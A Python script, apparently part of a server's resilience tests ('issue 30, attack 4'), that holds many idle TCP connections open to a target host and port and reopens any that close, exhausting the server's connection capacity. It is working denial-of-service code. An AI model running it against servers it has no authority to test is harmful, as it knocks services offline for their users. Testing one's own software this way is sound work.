#!/usr/bin/env python3
"""Holds COUNT idle TCP connections open to HOST:PORT and sends nothing on them (issue 30,
attack 4): a connection the server closes is opened again at once, so the pressure lasts.
Standard library only; raises its own descriptor limit to its hard limit first.

  idle_connections.py HOST PORT COUNT

Prints `connected N` once N connections are established (or COUNT attempts have ended), then a
line `held N reopened M` every second, until its standard input closes or it is killed.
"""
import errno
import resource
import select
import socket
import sys
import threading
import time


def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    poller = select.poll()
    sockets = {}

    def open_one():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        result = s.connect_ex((host, port))
        if result not in (0, errno.EINPROGRESS):
            s.close()
            return False
        sockets[s.fileno()] = s
        poller.register(s.fileno(), select.POLLIN | select.POLLHUP | select.POLLERR)
        return True

    for _ in range(count):
        open_one()
    # Established once writable (the kernel completes the handshake even before accept()).
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        probe = select.poll()
        for fd in sockets:
            probe.register(fd, select.POLLOUT)
        if len(probe.poll(0)) >= len(sockets):
            break
        time.sleep(0.1)
    print(f"connected {len(sockets)}", flush=True)
    reopened = 0
    last = time.monotonic()
    while not stop.is_set():
        for fd, _ in poller.poll(200):
            s = sockets.pop(fd, None)
            if s is None:
                continue
            poller.unregister(fd)
            s.close()
            if open_one():
                reopened += 1
        if time.monotonic() - last >= 1:
            print(f"held {len(sockets)} reopened {reopened}", flush=True)
            last = time.monotonic()
    for s in sockets.values():
        s.close()


if __name__ == "__main__":
    main()
